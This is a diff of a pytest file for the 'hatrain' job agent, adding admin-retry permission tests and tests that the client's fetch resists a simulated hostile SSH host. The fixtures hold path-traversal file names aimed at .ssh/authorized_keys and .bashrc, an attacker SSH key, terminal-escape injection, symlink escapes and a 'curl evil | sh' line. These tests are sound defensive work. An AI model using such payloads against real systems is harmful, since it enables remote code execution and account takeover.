@@ -24,9 +24,9 @@ import yaml
 from hatrain.agent.config import AgentConfig
 from hatrain.agent.errors import ConfigError
 from hatrain.agent.server import Agent
-from hatrain.client.fetch import HostileName, _inside, fetch
 from hatrain.rpc.v1 import agent_pb2 as pb
 
+from tests.support import hostile_host as hostile
 from tests.support.client import ClientRunner, host_entry
 from tests.support.harness import (
     TERMINAL,
@@ -37,6 +37,7 @@ from tests.support.harness import (
     stub_for,
     wait_state,
 )
+from tests.support.hostile_host import HostileHost
 from tests.support.sshd import SshServer, start_sshd
 from tests.support.users import (
     ADMIN,
@@ -130,7 +131,9 @@ def test_a_user_cannot_act_on_another_users_job_but_an_admin_can(team: Team) -> 
     through the client; he sees it in the queue (name, user, state) but not its config or run
     dir, and his own SFTP session can neither list the run dir nor read a file alice put there.
     The agent knows each of them as who the kernel says. The admin can do all of it: read the
-    logs and the run dir (through their own SFTP login, and `fetch`), pin, and cancel."""
+    logs and the run dir (through their own SFTP login, and `fetch`), pin, cancel, and retry
+    it once it has ended (bob still may not: the refusal is about whose it is, not its state);
+    the retry is the admin's own job."""
     job = submitted(team, ALICE)
     assert job["user"] == ALICE
     job_id = job["id"]
@@ -175,6 +178,13 @@ def test_a_user_cannot_act_on_another_users_job_but_an_admin_can(team: Team) -> 
     assert (team.project / "by-admin" / "result.txt").read_text() == "result\n"
     cancelled = team.run(ADMIN, "cancel", job_id, "--wait")
     assert cancelled.returncode == 130, cancelled.stderr
+    denied = team.run(BOB, "retry", job_id)
+    assert denied.returncode == 65 and f"belongs to {ALICE}" in denied.stderr, "ended, still hers"
+    retried = team.run(ADMIN, "retry", job_id, "--detach", "--json")
+    assert retried.returncode == 0, retried.stderr
+    again = json.loads(retried.stdout)
+    assert again["user"] == ADMIN and team.agent.store.get(again["id"]).spec.retry_of == job_id
+    assert team.run(ADMIN, "cancel", again["id"]).returncode == 0
 
 
 def test_where_the_host_forwards_nothing_the_bridge_carries_the_calls(
@@ -201,7 +211,10 @@ def test_where_the_host_forwards_nothing_the_bridge_carries_the_calls(
 
 def test_a_stock_grpc_call_is_who_the_kernel_says(team: Team) -> None:
     """A gRPC call of bob's own through the agent's socket, claiming to be alice in every way a
-    client could (the old metadata included), is still bob's: denied on alice's job."""
+    client could (the old metadata included), is still bob's: denied on alice's job (cancel,
+    retry, events; its summary without config or run dir). The admin's own stock calls get
+    all of it: the full spec and run dir, the events, the cancel, and a retry once it has
+    ended, which is the admin's job; bob's retry of the ended job is still denied."""
     job_id = submitted(team, ALICE)["id"]
     forged = [("x-hatrain-user", ALICE)]
     with channel_as(BOB, team.agent.socket) as channel:
@@ -222,6 +235,25 @@ def test_a_stock_grpc_call_is_who_the_kernel_says(team: Team) -> None:
     with channel_as(ALICE, team.agent.socket) as channel:
         mine = stub_as(channel).GetJob(pb.GetJobRequest(job_id=job_id))
         assert b"hatrain_standin" in mine.spec.config_yaml
+
+    with channel_as(ADMIN, team.agent.socket) as channel:
+        admin = stub_as(channel)
+        assert admin.GetAgentInfo(pb.GetAgentInfoRequest()).user == ADMIN
+        full = admin.GetJob(pb.GetJobRequest(job_id=job_id))
+        assert full.spec == mine.spec and full.run_dir == mine.run_dir != ""
+        assert all_events(admin, job_id), "the job's events, read by the admin"
+        admin.CancelJob(pb.CancelJobRequest(job_id=job_id), timeout=30)
+        assert wait_state(admin, job_id, TERMINAL).state == pb.JOB_STATE_CANCELLED
+        retry = pb.JobSpec()
+        retry.CopyFrom(full.spec)
+        retry.retry_of = job_id
+        with channel_as(BOB, team.agent.socket) as bobs:
+            with pytest.raises(grpc.RpcError) as denied:
+                stub_as(bobs).SubmitJob(pb.SubmitJobRequest(spec=retry), timeout=30)
+            assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
+        again = admin.SubmitJob(pb.SubmitJobRequest(spec=retry), timeout=30).job
+        assert (again.user, again.spec.retry_of) == (ADMIN, job_id)
+        admin.CancelJob(pb.CancelJobRequest(job_id=again.id), timeout=30)
 
 
 def test_the_private_socket_is_out_of_reach(team: Team) -> None:
@@ -347,42 +379,149 @@ def _answers(socket_path: Path) -> bool:
     return True
 
 
-class HostileSftp:
-    """A test double of a hostile host's SFTP server: it lists whatever names it likes."""
+def _fetch_from(host: HostileHost, home: Path, dest: Path) -> subprocess.CompletedProcess[str]:
+    """The real client's `fetch` of the hostile host's job, logging in to it over SSH with a
+    key it accepts, its host key in known_hosts."""
+    home.mkdir()
+    settings = {
+        "default_host": "evil",
+        "hosts": {"evil": host_entry(host.alias, Path("/run/hatrain/agent.sock"))},
+        "ssh_config": str(host.ssh_config),
+        "known_hosts": str(host.known_hosts),
+        "cache_dir": str(home / "cache"),
+        "keep_connection_seconds": 0,
+    }
+    config = home / "client.yml"
+    config.write_text(yaml.safe_dump(settings))
+    return ClientRunner(home, config).run("fetch", hostile.JOB_ID, str(dest))
 
-    def __init__(self, names: list[str]) -> None:
-        self.names = names
 
-    def listdir_attr(self, path: str) -> list[Any]:
-        entries = []
-        for name in self.names:
-            attr = paramiko.SFTPAttributes()
-            attr.filename, attr.st_mode, attr.st_size = name, 0o100644, 4
-            entries.append(attr)
-        return entries
+def _everything(root: Path, *but: Path) -> dict[str, str]:
+    """Every path under root (but not under those given), each with its bytes or its link's
+    target."""
+    found = {}
+    for path in sorted(root.rglob("*")):
+        if any(path.is_relative_to(b) for b in but):
+            continue
+        found[str(path.relative_to(root))] = (
+            f"-> {os.readlink(path)}"
+            if path.is_symlink()
+            else "dir"
+            if path.is_dir()
+            else path.read_bytes().decode(errors="replace")
+        )
+    return found
 
-    def open(self, path: str, mode: str) -> Any:
-        raise AssertionError(f"nothing may be read from {path}")
 
-
-@pytest.mark.parametrize("name", ["../../.ssh/authorized_keys", "..", "/etc/passwd", "a/../../b"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../.ssh/authorized_keys",
+        "../x",
+        "a/../../b",
+        "{victim}/.bashrc",
+        "../\x1b]0;owned\x07[bold]x\n",
+    ],
+    ids=["dot-dot-ssh", "parent", "through-a-dir", "absolute", "escapes-and-markup"],
+)
 def test_fetch_refuses_names_from_a_hostile_host(tmp_path: Path, name: str) -> None:
-    """A host that lists a file named to land outside DEST gets nothing written anywhere."""
+    """A hostile SSH host (its own sshd, agent and SFTP, on the real protocols) says the job
+    ran and lists, beside ordinary files, one named to land outside DEST (up out of it,
+    absolute, through a directory). The real `hatrain-client fetch` refuses it, naming it (as
+    text: its escape codes and markup shown, not obeyed), downloads nothing, and writes nothing
+    anywhere: not in DEST, not where the name points."""
+    victim = tmp_path / "victim"
+    dest = victim / "runs" / "dest"
+    dest.parent.mkdir(parents=True)
+    name = name.format(victim=victim)
+    tree = hostile.Tree(
+        {
+            "": [
+                ("model.bin", hostile.file()),
+                ("checkpoint-1", hostile.directory()),
+                (name, hostile.file(b"ssh-ed25519 AAAA attacker\n")),
+            ],
+            "checkpoint-1": [("weights.bin", hostile.file())],
+        }
+    )
+    before = _everything(tmp_path, tmp_path / "client", tmp_path / "host")
+    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
+        fetched = _fetch_from(host, tmp_path / "client", dest)
+    assert fetched.returncode == 69, (fetched.stdout, fetched.stderr)
+    assert f"the host listed a file named {name!r} in the run directory" in fetched.stderr
+    assert "\x1b" not in fetched.stderr + fetched.stdout
+    assert tree.opened == [], "nothing was downloaded"
+    assert _everything(tmp_path, tmp_path / "client", tmp_path / "host") == before, (
+        "nothing was written"
+    )
+
+
+def test_fetch_takes_names_with_escapes_and_markup_as_text(tmp_path: Path) -> None:
+    """A hostile host's file whose name is legal but carries a newline, terminal escapes and
+    rich markup is fetched inside DEST under that very name, and the list of fetched files
+    shows it as text: escaped, markup printed, no escape code sent to the terminal."""
     dest = tmp_path / "dest"
-    with pytest.raises(HostileName):
-        fetch(HostileSftp(["model.bin", name]), "/run", dest, [], [])  # type: ignore[arg-type]
-    assert not dest.exists() and not (tmp_path / ".ssh").exists()
+    name = "[bold red]boom\x1b]0;owned\x07\x1b[2J\nname.txt"
+    tree = hostile.Tree({"": [("model.bin", hostile.file()), (name, hostile.file(b"odd\n"))]})
+    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
+        fetched = _fetch_from(host, tmp_path / "client", dest)
+    assert fetched.returncode == 0, fetched.stderr
+    assert (dest / name).read_bytes() == b"odd\n"
+    assert sorted(p.name for p in dest.iterdir()) == sorted(["model.bin", name])
+    out = fetched.stdout + fetched.stderr
+    assert "\x1b" not in out and "\x07" not in out
+    assert "[bold red]boom\\x1b]0;owned\\x07\\x1b[2J\\nname.txt (4 bytes)" in fetched.stderr
+
+
+def test_fetch_follows_no_link_of_a_hostile_host(tmp_path: Path) -> None:
+    """Links in a hostile host's run dir (to a directory of the client's, to /etc, up) are
+    neither followed nor made in DEST, and files it names `.` and `..` are taken for what SFTP
+    means by them, not fetched: only the plain file is, and nothing outside DEST changes."""
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / ".bashrc").write_text("mine\n")
+    dest = tmp_path / "dest"
+    tree = hostile.Tree(
+        {
+            "": [
+                ("model.bin", hostile.file()),
+                ("escape", hostile.link(str(victim))),
+                ("etc", hostile.link("/etc")),
+                ("up", hostile.link("../../..")),
+                ("..", hostile.file(b"owned\n")),
+                (".", hostile.file(b"owned\n")),
+            ]
+        }
+    )
+    before = _everything(victim)
+    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
+        fetched = _fetch_from(host, tmp_path / "client", dest)
+    assert fetched.returncode == 0, fetched.stderr
+    assert [p.name for p in dest.iterdir()] == ["model.bin"]
+    assert tree.opened == [f"{hostile.RUN_DIR}/model.bin"]
+    assert _everything(victim) == before
 
 
 def test_fetch_refuses_a_link_out_of_its_destination(tmp_path: Path) -> None:
     """A name that is harmless on its own, but whose directory in DEST is a link leading out
-    of it, is refused too."""
+    of it, is refused too, naming it; nothing is downloaded or written through the link."""
+    victim = tmp_path / "victim"
+    victim.mkdir()
     dest = tmp_path / "dest"
     dest.mkdir()
-    (dest / "sub").symlink_to(tmp_path)
-    with pytest.raises(HostileName):
-        _inside(dest, "sub/.bashrc")
-    assert _inside(dest, "ok/model.bin") == dest / "ok" / "model.bin"
+    (dest / "sub").symlink_to(victim)
+    tree = hostile.Tree(
+        {
+            "": [("model.bin", hostile.file()), ("sub", hostile.directory())],
+            "sub": [(".bashrc", hostile.file(b"curl evil | sh\n"))],
+        }
+    )
+    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
+        fetched = _fetch_from(host, tmp_path / "client", dest)
+    assert fetched.returncode == 69, (fetched.stdout, fetched.stderr)
+    assert f"the host listed 'sub/.bashrc', which would land outside {dest}" in fetched.stderr
+    assert tree.opened == []
+    assert list(victim.iterdir()) == [] and sorted(p.name for p in dest.iterdir()) == ["sub"]
 
 
 def test_names_and_lines_are_shown_not_obeyed(
